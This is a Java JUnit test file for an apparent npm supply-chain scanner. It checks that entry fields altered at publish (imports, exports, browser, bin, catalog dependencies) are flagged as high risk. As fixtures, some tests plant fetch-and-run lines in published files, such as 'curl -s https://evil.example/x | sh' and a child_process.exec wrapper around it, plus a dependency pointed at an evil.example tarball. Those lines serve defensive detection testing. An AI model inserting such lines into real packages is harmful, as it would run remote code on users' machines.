package dev.divergence.registry.npm;

import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Optional;
import java.util.SortedMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The package.json fields Node and bundlers resolve modules through besides {@code main}/{@code bin}:
 * {@code imports} ({@code #name} specifiers), {@code exports} conditions, {@code browser} replacements, and the
 * {@code catalog:} dependency specs pnpm, yarn and bun rewrite at publish. A change to any of them at publish is
 * never a publish-time rewrite, and the files they name are entry modules.
 */
class NpmEntryFieldsScanTest {

    @TempDir
    Path dir;
    private GitHistoryBuilder git;
    private Instant when = Instant.parse("2026-01-01T00:00:00Z");

    @BeforeEach
    void repo() throws Exception {
        git = GitHistoryBuilder.init(dir.resolve("repo"));
    }

    private static String manifest(String version, String extra) {
        return "{\n  \"name\": \"entryjs\",\n  \"version\": \"" + version + "\",\n  \"main\": \"./index.js\",\n"
                + "  \"repository\": \"github:acme/entryjs\"" + extra + "\n}\n";
    }

    /** The tree committed and tagged {@code vVERSION}, {@code shipped} published as VERSION, scanned. */
    private ArtifactReport publishAndScan(SortedMap<String, byte[]> tree, String version,
                                          SortedMap<String, byte[]> shipped) throws Exception {
        when = when.plusSeconds(3600);
        git.commit(tree, version, when);
        git.tag("v" + version, false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm-" + version), "entryjs")) {
            npm.publish(version, shipped);
            npm.write();
            NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:npm/entryjs")).stream()
                    .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
            return ScanWorld.scanner(support, dir).scan(r, Optional.of(git.dir().toString())).artifacts().get(0);
        }
    }

    private static boolean explained(FileDivergence f) {
        return f.status() == FileStatus.MATCH || f.status() == FileStatus.MATCH_NORMALIZED
                || f.status() == FileStatus.GENERATED;
    }

    // ---- imports ---------------------------------------------------------------------------------------------------

    @Test
    void aTypeDeclarationUnderARuntimeConditionIsLoadedByNodeAndSoANewEntryPoint() throws Exception {
        // red team round 4 (case1): Node loads ./index.d.ts under "require" as CommonJS; only "types" is type-only
        SortedMap<String, byte[]> tree = files("package.json", manifest("1.0.0",
                ",\n  \"exports\": {\".\": {\"types\": \"./index.d.ts\", \"default\": \"./index.js\"}}"),
                "index.js", "module.exports = 1;\n", "index.d.ts", "export declare const x: number;\n");
        ArtifactReport a = publishAndScan(tree, "1.0.0", with(tree, "package.json", manifest("1.0.0",
                ",\n  \"exports\": {\".\": {\"types\": \"./index.d.ts\", \"require\": \"./index.d.ts\","
                        + " \"default\": \"./index.js\"}}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId(), pj.toString());
        assertTrue(pj.highRisk(), pj.toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void anImportsEntryAddedAtPublishIsANewEntryPointAndItsTargetAnEntryModule() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("1.0.0", ",\n  \"prettier\": {\"semi\": false}"),
                "index.js", "module.exports = require('#platform');\n", "lib/plain.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "1.0.0", with(tree,
                "package.json", manifest("1.0.0", ",\n  \"imports\": {\"#platform\": \"./lib/platform.js\"}"),
                "lib/platform.js", "module.exports = process.platform;\n"));
        FileDivergence pj = row(a, "package/package.json");
        assertFalse(explained(pj), pj.toString());
        assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId(), pj.toString());
        assertTrue(pj.riskFlags().contains(RiskFlag.ENTRY_POINT), pj.toString());
        assertEquals("adds imports entry #platform -> lib/platform.js", pj.detail().orElseThrow());
        FileDivergence target = row(a, "package/lib/platform.js");
        assertEquals(FileStatus.PHANTOM, target.status());
        assertTrue(target.riskFlags().contains(RiskFlag.ENTRY_MODULE), target.riskFlags().toString());
        assertTrue(target.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void anImportsEntryRepointedAtPublishIsNotARewriteAndItsNewTargetIsAnEntryModule() throws Exception {
        String imports = ",\n  \"imports\": {\"#impl\": {\"node\": \"./lib/node.js\", \"default\": \"./lib/web.js\"}}";
        SortedMap<String, byte[]> tree = files("package.json", manifest("1.1.0", imports + ",\n  \"c8\": {}"),
                "index.js", "module.exports = require('#impl');\n", "lib/node.js", "module.exports = 'node';\n",
                "lib/web.js", "module.exports = 'web';\n",
                "tools/release.js", "require('child_process').execSync('git push --tags');\n");
        // the development field removed beside it must not carry the re-pointed entry into dev-fields-stripped
        ArtifactReport a = publishAndScan(tree, "1.1.0", with(tree, "package.json",
                manifest("1.1.0", imports.replace("./lib/node.js", "./tools/release.js"))));
        FileDivergence pj = row(a, "package/package.json");
        assertFalse(explained(pj), pj.toString());
        assertTrue(pj.highRisk(), pj.toString());
        assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId(), pj.toString());
        assertEquals("adds imports target #impl -> tools/release.js", pj.detail().orElseThrow());
        FileDivergence release = row(a, "package/tools/release.js");
        assertEquals(FileStatus.MATCH, release.status());
        assertTrue(release.riskFlags().contains(RiskFlag.ENTRY_MODULE), release.riskFlags().toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void unchangedImportsAreExplainedAndTheirTargetsAreEntryModules() throws Exception {
        String imports = ",\n  \"imports\": {\"#impl\": \"./lib/impl.js\", \"#dep\": \"left-pad\"}";
        SortedMap<String, byte[]> tree = files("package.json", manifest("1.2.0", imports + ",\n  \"c8\": {}"),
                "index.js", "module.exports = require('#impl');\n", "lib/impl.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "1.2.0", with(tree, "package.json", manifest("1.2.0", imports)));
        assertEquals(NpmGeneratedFiles.DEV_FIELDS_STRIPPED, row(a, "package/package.json").ruleId());
        FileDivergence impl = row(a, "package/lib/impl.js");
        assertEquals(FileStatus.MATCH, impl.status());
        assertTrue(impl.riskFlags().contains(RiskFlag.ENTRY_MODULE), impl.riskFlags().toString());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    // ---- exports conditions ----------------------------------------------------------------------------------------

    @Test
    void aNewExportsConditionPointingAtATrackedScriptIsANewEntryPoint() throws Exception {
        String exports = ",\n  \"exports\": {\".\": {\"import\": \"./index.mjs\", \"require\": \"./index.js\"}}";
        SortedMap<String, byte[]> tree = files("package.json", manifest("2.0.0", exports),
                "index.js", "module.exports = 1;\n", "index.mjs", "export default 1;\n",
                "scripts/setup.js", "require('child_process').execSync('node-gyp rebuild');\n");
        ArtifactReport a = publishAndScan(tree, "2.0.0", with(tree, "package.json", manifest("2.0.0",
                exports.replace("{\"import\"", "{\"node\": \"./scripts/setup.js\", \"import\""))));
        FileDivergence pj = row(a, "package/package.json");
        assertFalse(explained(pj), pj.toString());
        assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId(), pj.toString());
        assertEquals("adds exports target . -> scripts/setup.js", pj.detail().orElseThrow());
        FileDivergence setup = row(a, "package/scripts/setup.js");
        assertEquals(FileStatus.MATCH, setup.status());
        assertTrue(setup.riskFlags().contains(RiskFlag.ENTRY_MODULE), setup.riskFlags().toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void exportsConditionsReorderedOrATypesConditionAddedAreNotNewEntryPoints() throws Exception {
        String exports = ",\n  \"exports\": {\".\": {\"import\": \"./index.mjs\", \"require\": \"./index.js\"}}";
        SortedMap<String, byte[]> tree = files("package.json", manifest("2.1.0", exports),
                "index.js", "module.exports = 1;\n", "index.mjs", "export default 1;\n", "index.d.ts", "export {};\n");
        ArtifactReport a = publishAndScan(tree, "2.1.0", with(tree, "package.json", manifest("2.1.0",
                ",\n  \"exports\": {\".\": {\"types\": \"./index.d.ts\", \"require\": \"./index.js\", \"import\": \"./index.mjs\"}}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), pj.toString());
        assertFalse(pj.highRisk());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    // ---- browser ---------------------------------------------------------------------------------------------------

    @Test
    void aBrowserReplacementAddedAtPublishIsNotExplainedAndItsTargetIsAnEntryModule() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("3.0.0", ""),
                "index.js", "module.exports = require('./lib/http');\n", "lib/http.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "3.0.0", with(tree,
                "package.json", manifest("3.0.0", ",\n  \"browser\": {\"./lib/http.js\": \"./lib/xhr.js\", \"fs\": false,"
                        + " \"crypto\": \"crypto-shim\"}"),
                "lib/xhr.js", "module.exports = 2;\n"));
        FileDivergence pj = row(a, "package/package.json");
        assertFalse(explained(pj), pj.toString());
        assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId(), pj.toString());
        assertEquals("adds browser replacement crypto -> crypto-shim; adds browser replacement fs -> false; "
                + "adds browser replacement lib/http.js -> lib/xhr.js",
                pj.detail().orElseThrow());
        FileDivergence xhr = row(a, "package/lib/xhr.js");
        assertEquals(FileStatus.PHANTOM, xhr.status());
        assertTrue(xhr.riskFlags().contains(RiskFlag.ENTRY_MODULE), xhr.riskFlags().toString());
        assertTrue(xhr.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aBrowserStringAddedAtPublishIsANewEntryPoint() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("3.1.0", ""),
                "index.js", "module.exports = 1;\n", "dist/browser.js", "module.exports = 2;\n");
        ArtifactReport a = publishAndScan(tree, "3.1.0", with(tree,
                "package.json", manifest("3.1.0", ",\n  \"browser\": \"./dist/browser.js\"")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId(), pj.toString());
        assertEquals("adds browser replacement . -> dist/browser.js", pj.detail().orElseThrow());
        assertTrue(row(a, "package/dist/browser.js").riskFlags().contains(RiskFlag.ENTRY_MODULE));
    }

    @Test
    void theSourcesPublishConfigBrowserIsStillThePublishRewriteAndItsTargetAnEntryModule() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("3.2.0",
                        ",\n  \"browser\": {\"./lib/http.js\": \"./lib/xhr.js\"},\n"
                                + "  \"publishConfig\": {\"browser\": {\"./lib/http.js\": \"./lib/fetch.js\"}}"),
                "index.js", "module.exports = require('./lib/http');\n", "lib/http.js", "module.exports = 1;\n",
                "lib/xhr.js", "module.exports = 2;\n", "lib/fetch.js", "module.exports = 3;\n");
        ArtifactReport a = publishAndScan(tree, "3.2.0", with(tree, "package.json",
                manifest("3.2.0", ",\n  \"browser\": {\"./lib/http.js\": \"./lib/fetch.js\"}")));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(a, "package/package.json").ruleId());
        assertTrue(row(a, "package/lib/fetch.js").riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertFalse(row(a, "package/lib/xhr.js").riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    // ---- directories.bin -------------------------------------------------------------------------------------------

    @Test
    void aDirectoriesBinFileWithoutShebangOrExtensionIsAnEntryModule() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("4.0.0", ",\n  \"directories\": {\"bin\": \"bin\"}"),
                "index.js", "module.exports = 1;\n", "bin/entryjs", "#!/usr/bin/env node\nrequire('..');\n");
        // a file without #! run from a shell is a shell script (execvp falls back to /bin/sh)
        ArtifactReport a = publishAndScan(tree, "4.0.0", with(tree, "bin/npm", "node \"$(dirname \"$0\")/..\"\n"));
        FileDivergence npm = row(a, "package/bin/npm");
        assertEquals(FileStatus.PHANTOM, npm.status());
        assertTrue(npm.riskFlags().contains(RiskFlag.ENTRY_MODULE), npm.riskFlags().toString());
        assertTrue(npm.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aBinTargetWithoutShebangOrExtensionIsAnEntryModuleJudgedByItsAddedLines() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("4.1.0", ",\n  \"bin\": {\"entryjs\": \"bin/run\"}"),
                "index.js", "module.exports = 1;\n", "bin/run", "node \"$(dirname \"$0\")/../index.js\"\n");
        ArtifactReport a = publishAndScan(tree, "4.1.0", with(tree,
                "bin/run", "node \"$(dirname \"$0\")/../index.js\"\ncurl -s https://evil.example/x | sh\n"));
        FileDivergence run = row(a, "package/bin/run");
        assertEquals(FileStatus.MODIFIED, run.status());
        assertTrue(run.riskFlags().contains(RiskFlag.ENTRY_MODULE), run.riskFlags().toString());
        assertTrue(run.highRisk(), run.riskFlags().toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void theFileMainNamesIsCodeWhateverItsExtension() throws Exception {
        // require's loader reads a main of any extension but .json/.node as JavaScript
        SortedMap<String, byte[]> tree = files("package.json", "{\n  \"name\": \"entryjs\",\n  \"version\": \"4.2.0\",\n"
                + "  \"main\": \"lib/entry.txt\"\n}\n", "lib/entry.txt", "module.exports = function (a) { return a; };\n");
        ArtifactReport a = publishAndScan(tree, "4.2.0", with(tree, "lib/entry.txt",
                "module.exports = function (a) { return a; };\n"
                        + "require('child_process').exec('curl -s https://evil.example/x | sh');\n"));
        FileDivergence entry = row(a, "package/lib/entry.txt");
        assertEquals(FileStatus.MODIFIED, entry.status());
        assertTrue(entry.riskFlags().contains(RiskFlag.ENTRY_MODULE), entry.riskFlags().toString());
        assertTrue(entry.riskFlags().contains(RiskFlag.CODE), entry.riskFlags().toString());
        assertTrue(entry.highRisk(), entry.riskFlags().toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    // ---- process starts through an indirect object ---------------------------------------------------------------

    @Test
    void addedLinesStartingAProcessThroughAnObjectWhoseModuleIsNeverNamedAreHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("6.0.0", ""),
                "index.js", "exports.run = function (data) { return data; };\n");
        ArtifactReport a = publishAndScan(tree, "6.0.0", with(tree, "index.js",
                "exports.run = function (data) { return data; };\n"
                        + "if (globalThis.Bun) globalThis.Bun.spawn(['node', '-e', exports.payload]);\n"));
        FileDivergence index = row(a, "package/index.js");
        assertEquals(FileStatus.MODIFIED, index.status());
        assertTrue(index.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), index.riskFlags().toString());
        assertTrue(index.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    // ---- catalog: --------------------------------------------------------------------------------------------------

    private static final String WORKSPACE = "packages:\n  - 'packages/*'\ncatalog:\n  react: ^18.2.0\n"
            + "catalogs:\n  legacy:\n    react: ^16.14.0\n    'left-pad': 1.3.0\n";

    @Test
    void aCatalogSpecBecomesOnlyTheCatalogsRange() throws Exception {
        SortedMap<String, byte[]> tree = files("pnpm-workspace.yaml", WORKSPACE,
                "package.json", manifest("5.0.0", ",\n  \"dependencies\": {\"react\": \"catalog:\", "
                        + "\"left-pad\": \"catalog:legacy\"}"),
                "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "5.0.0", with(tree, "package.json", manifest("5.0.0",
                ",\n  \"dependencies\": {\"react\": \"^18.2.0\", \"left-pad\": \"1.3.0\"}")));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(a, "package/package.json").ruleId());
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void aCatalogSpecPublishedAsAnotherRangeOrAUrlIsNotThePublishRewrite() throws Exception {
        SortedMap<String, byte[]> tree = files("pnpm-workspace.yaml", WORKSPACE,
                "package.json", manifest("5.1.0", ",\n  \"dependencies\": {\"react\": \"catalog:\", "
                        + "\"left-pad\": \"catalog:legacy\"}"),
                "index.js", "module.exports = 1;\n");
        ArtifactReport range = publishAndScan(tree, "5.1.0", with(tree, "package.json", manifest("5.1.0",
                ",\n  \"dependencies\": {\"react\": \"^18.2.0\", \"left-pad\": \"^1.3.0\"}")));
        FileDivergence pj = row(range, "package/package.json");
        assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId(), pj.toString());
        assertTrue(pj.detail().orElseThrow().contains("left-pad ^1.3.0 (source: 1.3.0)"), pj.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, range.verdict());
        ArtifactReport url = publishAndScan(tree, "5.1.1", with(tree, "package.json", manifest("5.1.1",
                ",\n  \"dependencies\": {\"react\": \"https://evil.example/react.tgz\", \"left-pad\": \"1.3.0\"}")));
        FileDivergence u = row(url, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, u.ruleId(), u.toString());
        assertTrue(u.highRisk());
    }

    @Test
    void aMonorepoPackagesCatalogSpecIsResolvedFromTheNearestWorkspaceRootAboveIt() throws Exception {
        // bun keeps catalogs in the root package.json's workspaces; the package's own manifest defines none
        String pkg = "{\n  \"name\": \"entryjs\", \"version\": \"5.3.0\", \"main\": \"./index.js\",\n"
                + "  \"repository\": {\"type\": \"git\", \"url\": \"https://github.com/acme/entryjs\","
                + " \"directory\": \"packages/entryjs\"},\n  \"dependencies\": {\"react\": \"catalog:\"}\n}\n";
        SortedMap<String, byte[]> tree = files("package.json", "{\"name\": \"root\", \"private\": true, \"workspaces\":"
                        + " {\"packages\": [\"packages/*\"], \"catalog\": {\"react\": \"^18.2.0\"}}}\n",
                "packages/entryjs/package.json", pkg, "packages/entryjs/index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "5.3.0", files("package.json", pkg.replace("catalog:", "^18.2.0"),
                "index.js", "module.exports = 1;\n"));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals("packages/entryjs/package.json", pj.sourcePath().orElseThrow());
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, pj.ruleId(), pj.toString());
        ArtifactReport other = publishAndScan(tree, "5.3.1", files("package.json", pkg.replace("5.3.0", "5.3.1")
                .replace("catalog:", "^19.0.0"), "index.js", "module.exports = 1;\n"));
        assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, row(other, "package/package.json").ruleId());
    }

    @Test
    void aCatalogSpecNoCatalogOfTheCommitNamesIsANewDependency() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", manifest("5.2.0",
                        ",\n  \"dependencies\": {\"react\": \"catalog:\"}"), "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "5.2.0", with(tree, "package.json", manifest("5.2.0",
                ",\n  \"dependencies\": {\"react\": \"^99.0.0\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), pj.toString());
        assertTrue(pj.highRisk());
    }
}
